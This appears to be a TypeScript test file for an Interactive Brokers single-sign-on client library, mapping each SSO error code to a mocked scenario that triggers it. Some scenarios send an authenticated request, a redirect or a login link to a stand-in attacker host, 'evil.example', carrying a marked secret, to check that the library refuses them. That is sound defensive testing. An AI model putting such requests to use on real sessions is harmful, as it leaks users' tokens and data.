/** A way to each code of SSO. */
import { createIbkrOAuth2 } from '@isoauth/ibkr-oauth2'
import {
  createIbkrSso,
  type IbkrSso,
  type IbkrSsoErrorCode,
  withLandingAction,
} from '@isoauth/ibkr-sso'
import { failure } from '../check.ts'
import { NOW_MS, vectorClient } from '../vectors.ts'
import { BODY, carrying, echo, LINK_ID, TOKEN } from './marks.ts'
import { answer, never, type Play, played } from './played.ts'
import { ssoRefusals } from './refusals.ts'
import type { Provoked, Way } from './search.ts'

const user = { credential: 'exampleuser1', ip: '8.8.4.4' } as const
const signer = createIbkrOAuth2({ ...vectorClient, scope: 'sso-sessions.write' })
const oauth2 = { accessToken: async () => ({ value: TOKEN }), signJwt: signer.signJwt }
const LINK = `https://www.interactivebrokers.com/sso?SID=${LINK_ID}`

async function use(
  plays: Readonly<Record<string, Play>>,
  call: (sso: IbkrSso, time: { now: number }) => Promise<unknown>,
  more: object = {},
): Promise<Provoked> {
  const { fetch, onEvent, events, secrets } = played(plays)
  const time = { now: NOW_MS }
  const common = { oauth2, fetch: fetch as never, onEvent, now: () => time.now }
  const sso = createIbkrSso({ ...common, ...more })
  return { error: await failure(() => call(sso, time)), events, secrets }
}

const session = (play: Play, more: object = {}) =>
  use({ '/sso-sessions': play }, (sso) => sso.createSession(user), more)
const link = (url: string, ageMs = 0, parameters = {}) =>
  use({ '/sso-browser-sessions': answer({ url }) }, async (sso, time) => {
    const made = await sso.createBrowserSession(user)
    time.now += ageMs
    withLandingAction(made.url, 'TransferFunds', parameters)
  })
const outside = () =>
  use({ '/sso-sessions': answer({ active: true, access_token: TOKEN }) }, async (sso) => {
    await (await sso.createSession(user)).fetch(`https://evil.example/${BODY}`)
  })
const echoing =
  (status: number, headers = {}): Play =>
  (sent) =>
    echo(status, sent, headers)

export const ssoWays: Readonly<Record<IbkrSsoErrorCode, Way>> = {
  IBKR_SSO_OPTION_INVALID: () => link(LINK, 0, { SID: BODY }),
  IBKR_SSO_URL_REFUSED: outside,
  IBKR_SSO_REDIRECT_REFUSED: () =>
    session(echoing(302, { location: `https://evil.example/?${BODY}` })),
  IBKR_SSO_NETWORK: () =>
    session((sent) => {
      throw carrying(sent)
    }),
  IBKR_SSO_TIMEOUT: () => session(never, { timeoutMs: 100 }),
  IBKR_SSO_RESPONSE_INVALID: () =>
    session(({ text }) => new Response(`<html>${BODY} ${text}</html>`)),
  IBKR_SSO_SESSION_INACTIVE: () => session(answer({ active: false, access_token: BODY })),
  IBKR_SSO_LINK_REFUSED: () => link(`https://evil.example/?SID=${LINK_ID}`),
  IBKR_SSO_LINK_EXPIRED: () => link(LINK, 50_000),
  ...ssoRefusals((status, headers) => () => session(echoing(status, headers))),
}
